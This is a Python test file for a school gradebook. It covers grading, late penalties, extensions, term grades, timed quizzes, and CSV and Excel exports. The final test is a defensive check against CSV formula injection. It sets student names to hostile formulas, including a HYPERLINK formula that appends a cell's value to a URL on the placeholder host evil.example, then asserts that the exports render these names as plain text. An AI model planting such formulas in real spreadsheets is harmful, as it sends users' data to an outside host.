"""The gradebook on SQLite and PostgreSQL: marks, manual scores, paper, extensions,
excusals, late policies, term grades, timed windows, notice, exports."""

import csv
import datetime as dt
import io

import nbformat
import pytest

from sabaq.errors import Forbidden, Invalid
from sabaq.hub.domain import accounts, courses, gradebook, grading, marking, reports
from sabaq.hub.domain import assignments as asg
from sabaq.hub.store import jobs
from sabaq.hub.store.models import Role, utcnow

DAY = dt.timedelta(days=1)


def source(points=(2, 3)) -> bytes:
    nb = nbformat.v4.new_notebook()
    for i, p in enumerate(points):
        cell = nbformat.v4.new_code_cell(f"assert True  # test {i}", id=f"t{i}")
        cell.metadata["nbgrader"] = {"grade": True, "grade_id": f"t{i}", "points": p, "locked": True,
                                     "schema_version": 3, "solution": False, "task": False}
        nb.cells.append(cell)
    return nbformat.writes(nb).encode()


def graded(db, submission, scores: dict, needs_manual=()):
    """What a worker reports for a submission: per-cell auto scores."""
    job = jobs.enqueue(db, "grade", f"grade:{submission.id}", {"submission_id": submission.id})
    cells = {gid: {"score": s, "auto_score": s, "max_score": m, "needs_manual_grade": gid in needs_manual}
             for gid, (s, m) in scores.items()}
    total = sum(s for s, _ in scores.values())
    return grading.record(db, job, {"status": "graded", "score": total, "max_score": 5,
                                    "details": {"notebooks": {"hw": {"cells": cells}}}})


@pytest.fixture
def course(db):
    c = courses.create_course(db, "alg8", "Алгебра 8")
    teacher = accounts.create_user(db, "teacher")
    courses.set_member(db, c, teacher, Role.teacher)
    for login, section in (("aliya", "8A"), ("timur", "8A"), ("sofia", "8B")):
        courses.set_member(db, c, accounts.create_user(db, login, full_name=login.title()), Role.student, section)
    db.flush()
    return c


def release(db, c, name, category="formative", due=None, **kw):
    return asg.release(db, c, name, {"hw.ipynb": source()}, {"hw.ipynb": source()}, due_at=due,
                       now=utcnow() - 10 * DAY, category=category, **kw)


def student(db, login):
    return accounts.get_user(db, login)


def test_marks_manual_scores_and_kz_term_grade(db, course):
    f1 = release(db, course, "f1", "formative", due=utcnow() - DAY)
    u1 = release(db, course, "u1", "unit_summative", due=utcnow() - DAY)
    t1 = release(db, course, "t1", "term_summative", due=utcnow() - DAY)
    assert f1.max_score == 5.0  # from the source's points
    aliya = student(db, "aliya")
    s = asg.submit(db, f1, aliya, {"hw.ipynb": source()}, now=utcnow() - 2 * DAY)
    graded(db, s, {"t0": (2, 2), "t1": (1, 3)})  # 3 of 5
    s = asg.submit(db, u1, aliya, {"hw.ipynb": source()}, now=utcnow() - 2 * DAY)
    graded(db, s, {"t0": (2, 2), "t1": (0, 3)}, needs_manual=("t1",))
    marking.set_manual_grade(db, s, "hw", "t1", 2.5, student(db, "teacher"))  # teacher gives 2.5: 4.5 of 5
    s = asg.submit(db, t1, aliya, {"hw.ipynb": source()}, now=utcnow() - 2 * DAY)
    graded(db, s, {"t0": (2, 2), "t1": (2, 3)})  # 4 of 5
    db.flush()
    gb = gradebook.build(db, course)
    row = {r.student.name: r for r in gb.rows}["aliya"]
    assert [row.marks[a.id].score for a in (f1, u1, t1)] == [3.0, 4.5, 4.0]
    assert row.marks[u1.id].status == gradebook.GRADED
    # 0.25*60 + 0.25*90 + 0.5*80 = 77.5 -> 4
    assert row.term_percent[1] == pytest.approx(77.5) and row.term_grade[1] == 4
    timur = {r.student.name: r for r in gb.rows}["timur"]
    assert timur.marks[f1.id].status == gradebook.NOT_SUBMITTED and timur.term_grade[1] == 2  # past due: zeros
    with pytest.raises(Invalid):
        marking.set_manual_grade(db, s, "hw", "t1", 9, student(db, "teacher"))


def test_late_penalty_extension_excusal_and_paper(db, course):
    due = utcnow() - 3 * DAY
    a = release(db, course, "hw1", due=due, late_policy="percent", late_percent_per_day=10, late_floor_percent=50)
    aliya, timur, sofia = student(db, "aliya"), student(db, "timur"), student(db, "sofia")
    late = asg.submit(db, a, aliya, {"hw.ipynb": source()}, now=due + dt.timedelta(hours=30))  # 2 days late
    graded(db, late, {"t0": (2, 2), "t1": (3, 3)})
    marking.set_student_rule(db, a, timur, extension_minutes=3 * 24 * 60)
    on_time = asg.submit(db, a, timur, {"hw.ipynb": source()}, now=due + dt.timedelta(hours=30))
    graded(db, on_time, {"t0": (2, 2), "t1": (3, 3)})
    marking.set_student_rule(db, a, sofia, excused=True)
    db.flush()
    marks = {r.student.name: r.marks[a.id] for r in gradebook.build(db, course).rows}
    assert marks["aliya"].late and marks["aliya"].late_penalty == pytest.approx(1.0) and marks["aliya"].score == 4.0
    assert not marks["timur"].late and marks["timur"].score == 5.0
    assert marks["sofia"].status == gradebook.EXCUSED
    # paper work for sofia, marked by hand and flagged
    marking.set_student_rule(db, a, sofia, excused=False)
    paper = marking.record_paper(db, a, sofia, 3.5, "Қағазда жақсы", student(db, "teacher"))
    marks = {r.student.name: r.marks[a.id] for r in gradebook.build(db, course).rows}
    assert paper.kind == "paper" and marks["sofia"].status == gradebook.PAPER
    from sabaq.hub.domain.timerules import days_late

    share = min(10 * days_late(paper.submitted_at, due), 50) / 100  # paper work can be late too
    assert marks["sofia"].score == pytest.approx(3.5 * (1 - share))
    with pytest.raises(Invalid):
        marking.record_paper(db, a, sofia, 6, "", student(db, "teacher"))


def test_regrading_is_waiting_and_failed_is_shown(db, course):
    a = release(db, course, "hw1", due=utcnow() + DAY)
    s = asg.submit(db, a, student(db, "aliya"), {"hw.ipynb": source()})
    db.flush()
    marks = {r.student.name: r.marks[a.id] for r in gradebook.build(db, course).rows}
    assert marks["aliya"].status == gradebook.GRADING and not marks["aliya"].counts
    assert marks["timur"].status == gradebook.NOT_SUBMITTED and not marks["timur"].counts  # not due yet
    job = jobs.enqueue(db, "grade", f"grade:{s.id}", {})
    grading.record(db, job, {"status": "failed", "error": "boom"})
    marks = {r.student.name: r.marks[a.id] for r in gradebook.build(db, course).rows}
    assert marks["aliya"].status == gradebook.FAILED


def test_filters_by_class_term_and_category(db, course):
    release(db, course, "f1", "formative")
    release(db, course, "t2", "term_summative", term=2)
    gb = gradebook.build(db, course, section="8A", term=2)
    assert [r.student.name for r in gb.rows] == ["aliya", "timur"]
    assert [a.name for a in gb.assignments] == ["t2"]
    assert [a.name for a in gradebook.build(db, course, category="formative").assignments] == ["f1"]


def test_timed_window_and_minimum_notice(db, course):
    a = release(db, course, "quiz", due=utcnow() + DAY, timed_minutes=40)
    aliya = student(db, "aliya")
    opened = utcnow() - dt.timedelta(minutes=50)
    asg.record_opening(db, a, aliya, now=opened)
    asg.record_opening(db, a, aliya)  # only the first opening counts
    with pytest.raises(Forbidden) as err:
        asg.submit(db, a, aliya, {"hw.ipynb": source()})
    assert err.value.code == "time_up" and "40" in err.value.translated("en")
    timur = student(db, "timur")
    asg.record_opening(db, a, timur, now=utcnow() - dt.timedelta(minutes=10))
    assert asg.submit(db, a, timur, {"hw.ipynb": source()}).attempt == 1
    course.min_notice_hours = 24
    with pytest.raises(Invalid) as err:
        asg.release(db, course, "soon", {"hw.ipynb": source()}, {}, due_at=utcnow() + dt.timedelta(hours=2))
    assert "24" in err.value.translated("ru")


def test_exports_keep_cyrillic(db, course):
    a = release(db, course, "hw1", due=utcnow() - DAY)
    student(db, "aliya").full_name = "Әлия Нұрланқызы"
    graded(db, asg.submit(db, a, student(db, "aliya"), {"hw.ipynb": source()}), {"t0": (2, 2), "t1": (3, 3)})
    db.flush()
    gb = gradebook.build(db, course)
    data = reports.to_csv(gb, "kk")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Логин", "Аты-жөні", "Сынып"]
    aliya = [r for r in rows if r[0] == "aliya"][0]
    assert aliya[1] == "Әлия Нұрланқызы" and aliya[3] == "5.0"
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(reports.to_xlsx(gb, "ru"))).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Логин", "Имя", "Класс"]
    assert ["aliya", "Әлия Нұрланқызы", "8A", 5.0] in [v[:4] for v in values]
    assert reports.distribution_png([50.0, 90.0], "t", "x", "y").startswith(b"\x89PNG")


def test_exports_never_hand_a_spreadsheet_a_formula(db, course):
    """A name typed as a formula (OWASP's CSV injection) is text in both exports: a leading '."""
    a = release(db, course, "hw1", due=utcnow() - DAY)
    names = {"aliya": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "timur": "+1+2", "sofia": "@SUM(A1)"}
    for login, name in names.items():
        student(db, login).full_name = name
    next(m for m in course.memberships if m.user.name == "sofia").section = "-8B"
    graded(db, asg.submit(db, a, student(db, "aliya"), {"hw.ipynb": source()}), {"t0": (2, 2), "t1": (3, 3)})
    db.flush()
    gb = gradebook.build(db, course)
    rows = list(csv.reader(io.StringIO(reports.to_csv(gb, "en").decode("utf-8-sig"))))
    by_login = {r[0]: r for r in rows[1:]}
    for login, name in names.items():
        assert by_login[login][1] == "'" + name
    assert by_login["sofia"][2] == "'-8B" and by_login["aliya"][3] == "5.0"  # numbers stay numbers
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(reports.to_xlsx(gb, "en"))).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for login, name in names.items():
        assert cells[login][1].value == "'" + name and cells[login][1].data_type == "s"
    assert cells["aliya"][3].value == 5.0 and cells["aliya"][3].data_type == "n"
    for text in ("-1", "\tx", "\rx", "plain", "Әлия"):
        assert reports.safe_cell(text) == (text if text[0] not in "=+-@\t\r" else "'" + text)
    assert reports.safe_cell(-1.5) == -1.5
